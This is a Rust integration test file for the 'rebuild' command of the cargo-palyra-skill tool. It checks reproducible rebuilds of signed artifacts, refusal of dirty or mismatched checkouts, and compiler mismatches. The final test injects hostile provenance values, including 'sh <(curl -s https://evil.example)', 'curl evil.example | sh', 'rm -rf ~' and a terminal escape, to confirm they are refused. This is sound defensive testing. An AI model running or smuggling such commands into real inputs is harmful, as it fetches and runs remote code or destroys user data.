//! `rebuild`: an artifact built in one checkout is rebuilt in a clone
//! (another path) and reproduced; a source change, a dirty or different
//! checkout and a different compiler are each refused or reported.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::*;
use cargo_palyra_skill::artifact::{Entries, MANIFEST_PATH, PROVENANCE_PATH, SBOM_PATH};
use cargo_palyra_skill::pack::{self, Parts};
use predicates::prelude::*;
use serde_json::Value;

/// `fixtures/skills/guard` committed in `dir/origin`, built from there with
/// `--locked`; returns the artifact and a clone of the repository at `dir/clone`.
fn published(dir: &Path) -> (PathBuf, PathBuf) {
    let origin = dir.join("origin");
    copy_fixture_dir("skills/guard", &origin);
    git(&origin, &["init", "-q"]);
    git(&origin, &["add", "-A"]);
    git(&origin, &["commit", "-qm", "guard"]);
    let out = dir.join("out");
    cmd()
        .args(["build", "--locked", "-q", "--manifest-path"])
        .arg(origin.join("Cargo.toml"))
        .arg("--target-dir")
        .arg(PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("skills-target"))
        .arg("--out")
        .arg(&out)
        .env("PALYRA_SKILL_SIGNING_KEY", TEST_SEED_HEX)
        .env("PALYRA_SKILL_CONFIG_DIR", dir.join("config"))
        .assert()
        .success();
    let clone = dir.join("clone");
    let status = Command::new("git").args(["clone", "-q"]).arg(&origin).arg(&clone).status().unwrap();
    assert!(status.success());
    (out.join("acme.guard-1.2.3.palyra-skill"), clone)
}

fn rebuild(artifact: &Path, checkout: &Path) -> assert_cmd::Command {
    let mut command = cmd();
    command.arg("rebuild").arg(artifact).arg("--manifest-path").arg(checkout.join("Cargo.toml"));
    command
}

#[test]
fn an_artifact_is_reproduced_from_a_clone_at_another_path() {
    let dir = tempfile::tempdir().unwrap();
    let (artifact, clone) = published(dir.path());
    let out = rebuild(&artifact, &clone).args(["--message-format", "json"]).assert().success();
    let report: Value = serde_json::from_slice(&out.get_output().stdout).unwrap();
    assert_eq!(report["reproduced"], true, "{report:#}");
    let entries = report["entries"].as_array().unwrap();
    let paths: Vec<&str> = entries.iter().map(|e| e["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["modules/acme_guard.wasm", "provenance.json", "sbom.cdx.json", "skill.toml"]);
    assert!(entries.iter().all(|e| e["status"] == "identical"), "{entries:#?}");
    assert_eq!(report["rebuilt_payload_sha256"], report["original_payload_sha256"]);
    assert_eq!(report["recorded"]["package"], "acme-guard");
    assert_eq!(report["recorded"]["locked"], true);
    assert_eq!(report["source_date_epoch"].as_i64().unwrap() * 1000, report["recorded"]["signed_at_unix_ms"]);
    assert_eq!(report["checkout_commit"], report["recorded"]["commit"]);
    assert_eq!(report["toolchain"], Value::Null);

    // Re-signed later (key rotation): the build's own start time is used.
    let resigned = dir.path().join("resigned.palyra-skill");
    cmd()
        .arg("sign")
        .arg(&artifact)
        .arg("--out")
        .arg(&resigned)
        .env("PALYRA_SKILL_SIGNING_KEY", TEST_SEED_HEX)
        .env("SOURCE_DATE_EPOCH", "1700000000")
        .assert()
        .success();
    rebuild(&resigned, &clone)
        .assert()
        .success()
        .stderr(predicate::str::contains("the artifact was signed after it was built"));

    // The current compiler is not the recorded one, but an installed rustup
    // toolchain is: the rebuild runs through `rustup run` and reproduces.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let fake = dir.path().join("rustc-1.80");
        std::fs::write(
            &fake,
            "#!/bin/sh\nif [ \"$1\" = -vV ]; then rustc -vV | sed 's/^release: .*/release: 1.80.0/; s/^commit-hash: .*/commit-hash: 0000000000000000000000000000000000000000/'; else exec rustc \"$@\"; fi\n",
        )
        .unwrap();
        std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
        rebuild(&artifact, &clone)
            .env("RUSTC", &fake)
            .assert()
            .success()
            .stderr(
                predicate::str::is_match(
                    r"Toolchain rustc 1\.\d+\.\d+ \(rustup toolchain `[^`]+`\), as recorded",
                )
                .unwrap(),
            )
            .stderr(predicate::str::contains("Reproduced"));
    }
}

/// #35 item 0: a default build (no `--locked`) of a commit whose
/// `Cargo.lock` is committed is locked, records so, and is reproduced from
/// a clean clone: the README's rebuild path, as a new author takes it.
#[test]
fn a_default_build_with_its_lock_file_committed_is_reproduced() {
    let dir = tempfile::tempdir().unwrap();
    let origin = dir.path().join("origin");
    copy_fixture_dir("skills/guard", &origin);
    git(&origin, &["init", "-q"]);
    git(&origin, &["add", "-A"]);
    git(&origin, &["commit", "-qm", "guard"]);
    let out = dir.path().join("out");
    cmd()
        .args(["build", "--manifest-path"])
        .arg(origin.join("Cargo.toml"))
        .arg("--target-dir")
        .arg(PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("skills-target"))
        .arg("--out")
        .arg(&out)
        .env("PALYRA_SKILL_CONFIG_DIR", dir.path().join("config"))
        .assert()
        .success()
        .stderr(predicate::str::contains("development key"))
        .stderr(predicate::str::contains("uncommitted").not());
    let artifact = out.join("acme.guard-1.2.3.palyra-skill");
    let entries = Entries::read_zip(&std::fs::read(&artifact).unwrap()).unwrap();
    let provenance: Value = serde_json::from_slice(&entries.get(PROVENANCE_PATH).unwrap().bytes).unwrap();
    assert_eq!(provenance["predicate"]["buildDefinition"]["internalParameters"]["locked"], true);

    let clone = dir.path().join("clone");
    let status = Command::new("git").args(["clone", "-q"]).arg(&origin).arg(&clone).status().unwrap();
    assert!(status.success());
    let out = rebuild(&artifact, &clone).args(["--message-format", "json"]).assert().success();
    let report: Value = serde_json::from_slice(&out.get_output().stdout).unwrap();
    assert_eq!(report["reproduced"], true, "{report:#}");
    assert_eq!(report["recorded"]["locked"], true);
    out.stderr(predicate::str::contains("did not use `--locked`").not());
}

#[test]
fn a_changed_or_dirty_checkout_is_refused_and_a_changed_source_differs() {
    let dir = tempfile::tempdir().unwrap();
    let (artifact, clone) = published(dir.path());
    let lib = clone.join("src/lib.rs");
    let source = std::fs::read_to_string(&lib).unwrap();
    assert!(source.contains("return 50;"));
    std::fs::write(&lib, source.replace("return 50;", "return 51;")).unwrap();
    rebuild(&artifact, &clone)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("the checkout has uncommitted changes"))
        .stderr(predicate::str::contains("--allow-dirty"));
    git(&clone, &["commit", "-qam", "change"]);
    rebuild(&artifact, &clone)
        .assert()
        .code(2)
        .stderr(predicate::str::is_match("the checkout is at [0-9a-f]{40}, but the artifact was built from [0-9a-f]{40}: `git checkout [0-9a-f]{40}` first").unwrap());

    let out = rebuild(&artifact, &clone).args(["--allow-dirty", "--message-format", "json"]).assert().code(1);
    let report: Value = serde_json::from_slice(&out.get_output().stdout).unwrap();
    assert_eq!(report["reproduced"], false);
    let entry = |path: &str| {
        report["entries"].as_array().unwrap().iter().find(|e| e["path"] == path).unwrap().clone()
    };
    let module = entry("modules/acme_guard.wasm");
    assert_eq!(module["status"], "differs");
    let offset = module["first_difference"].as_u64().unwrap();
    let original = Entries::read_zip(&std::fs::read(&artifact).unwrap()).unwrap();
    assert!(offset > 8 && offset < original.get("modules/acme_guard.wasm").unwrap().bytes.len() as u64);
    let provenance = entry("provenance.json");
    assert_eq!(provenance["status"], "differs");
    let fields: Vec<&str> =
        provenance["fields"].as_array().unwrap().iter().map(|f| f.as_str().unwrap()).collect();
    assert!(fields.contains(&"/subject/0/digest/sha256"), "{fields:?}");
    assert!(fields.iter().any(|f| f.ends_with("/digest/gitCommit")), "{fields:?}");
    assert_eq!(report["rebuilt_payload_sha256"], Value::Null);

    rebuild(&artifact, &clone)
        .arg("--allow-dirty")
        .assert()
        .code(1)
        .stdout(predicate::str::contains("DIFFERS    modules/acme_guard.wasm: "))
        .stdout(predicate::str::contains(format!("first difference at byte {offset}")))
        .stderr(predicate::str::contains("rebuilding anyway (--allow-dirty)"))
        .stderr(predicate::str::contains("is not reproduced from this source"));
}

/// The artifact with its provenance's compiler replaced by `rustc`,
/// re-packed and re-signed at the same time.
fn with_compiler(artifact: &Path, release: &str, into: &Path) -> PathBuf {
    with_provenance(artifact, into, |provenance| {
        let internal = &mut provenance["predicate"]["buildDefinition"]["internalParameters"];
        let rustc = internal["rustc"].as_str().unwrap();
        let changed: Vec<String> = rustc
            .lines()
            .map(|line| match line.split_once(": ") {
                Some(("release", _)) => format!("release: {release}"),
                Some(("commit-hash", _)) => "commit-hash: 1111111111111111111111111111111111111111".into(),
                _ => line.to_owned(),
            })
            .collect();
        internal["rustc"] = Value::from(changed.join("\n"));
        provenance["predicate"]["runDetails"]["builder"]["version"]["cargo-palyra-skill"] =
            Value::from("0.0.9");
    })
}

/// The artifact with its provenance changed by `edit`, re-packed and re-signed.
fn with_provenance(artifact: &Path, into: &Path, edit: impl FnOnce(&mut Value)) -> PathBuf {
    let entries = Entries::read_zip(&std::fs::read(artifact).unwrap()).unwrap();
    let text = |path: &str| String::from_utf8(entries.get(path).unwrap().bytes.clone()).unwrap();
    let mut provenance: Value = serde_json::from_str(&text(PROVENANCE_PATH)).unwrap();
    edit(&mut provenance);
    let (mut repacked, manifest) = pack::assemble(Parts {
        manifest_text: text(MANIFEST_PATH),
        modules: entries
            .modules()
            .map(|(p, e)| (p.trim_start_matches("modules/").to_owned(), e.bytes.clone()))
            .collect(),
        assets: vec![],
        sbom: entries.get(SBOM_PATH).unwrap().bytes.clone(),
        provenance: serde_json::to_vec_pretty(&provenance).unwrap(),
    })
    .unwrap();
    pack::sign(&mut repacked, &manifest.publisher, &test_key(), 1_700_000_000_000).unwrap();
    let path = into.join("other-compiler.palyra-skill");
    std::fs::write(&path, repacked.to_zip().unwrap()).unwrap();
    path
}

#[test]
fn another_compiler_that_is_not_installed_names_the_install_command() {
    let dir = tempfile::tempdir().unwrap();
    let (artifact, clone) = published(dir.path());
    let other = with_compiler(&artifact, "1.80.0", dir.path());
    // Also made by another version of this tool: said, not refused.
    rebuild(&other, &clone)
        .assert()
        .code(2)
        .stdout("")
        .stderr(predicate::str::contains(
            "the artifact was built with rustc 1.80.0 and this machine has rustc 1.",
        ))
        .stderr(predicate::str::contains(
            "run `rustup toolchain install 1.80.0 --target wasm32-unknown-unknown`, then rebuild again",
        ))
        .stderr(predicate::str::contains("the artifact was built by cargo-palyra-skill 0.0.9"));
}

#[test]
fn what_cannot_be_rebuilt_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    // The consumer's vector was not made by `build`: no build type of ours.
    rebuild(&fixture("vectors/reference-echo.palyra-skill"), dir.path())
        .assert()
        .code(2)
        .stderr(predicate::str::contains("the artifact was built by another tool"));
    let missing = dir.path().join("missing.palyra-skill");
    rebuild(&missing, dir.path()).assert().code(2).stderr(predicate::str::contains("missing.palyra-skill"));
    let garbage = dir.path().join("garbage.palyra-skill");
    std::fs::write(&garbage, b"PK\x03\x04 not a zip").unwrap();
    rebuild(&garbage, dir.path()).assert().code(2).stderr(predicate::str::contains("could not rebuild"));
}

/// The second review's item 7: a signed artifact whose provenance carries
/// shell text or terminal escapes in a field `rebuild` would run or print
/// is refused as the provenance's fault, before anything is run or suggested.
#[test]
fn crafted_provenance_fields_are_refused_before_anything_runs() {
    let dir = tempfile::tempdir().unwrap();
    let (artifact, clone) = published(dir.path());
    let rustc = |release: &'static str| {
        move |p: &mut Value| {
            let internal = &mut p["predicate"]["buildDefinition"]["internalParameters"];
            let text =
                internal["rustc"].as_str().unwrap().replace("release: 1.", &format!("release: {release}"));
            internal["rustc"] = Value::from(text);
        }
    };
    let external = |key: &'static str, value: Value| {
        move |p: &mut Value| p["predicate"]["buildDefinition"]["externalParameters"][key] = value
    };
    type Edit = Box<dyn FnOnce(&mut Value)>;
    let cases: Vec<(&str, Edit)> = vec![
        ("the rustc release", Box::new(rustc("1.80.0 && sh <(curl -s https://evil.example) #"))),
        (
            "the tool version",
            Box::new(|p: &mut Value| {
                p["predicate"]["runDetails"]["builder"]["version"]["cargo-palyra-skill"] =
                    Value::from("0.1.0 && curl evil.example | sh #")
            }),
        ),
        ("the package", Box::new(external("package", Value::from("acme-guard\n\u{1b}]0;owned\u{7}")))),
        ("the profile", Box::new(external("profile", Value::from("release; rm -rf ~")))),
        ("the target", Box::new(external("target", Value::from("x86_64-unknown-linux-gnu")))),
        ("a feature", Box::new(external("features", serde_json::json!(["ok", "a b"])))),
    ];
    for (index, (what, edit)) in cases.into_iter().enumerate() {
        let into = dir.path().join(format!("case{index}"));
        std::fs::create_dir_all(&into).unwrap();
        let crafted = with_provenance(&artifact, &into, edit);
        let out = rebuild(&crafted, &clone).assert().code(2).get_output().clone();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert!(stderr.contains(&format!("`provenance.json` records {what} `")), "{what}: {stderr}");
        assert!(stderr.contains("malformed or crafted"), "{what}: {stderr}");
        assert!(!stderr.contains("Rebuilding") && !stderr.contains("rustup toolchain install"), "{stderr}");
        assert!(!stderr.contains("cargo install"), "{what}: {stderr}");
        assert!(!stderr.contains('\u{1b}') && !stderr.contains('\u{7}'), "{what}: raw escapes: {stderr:?}");
    }
}
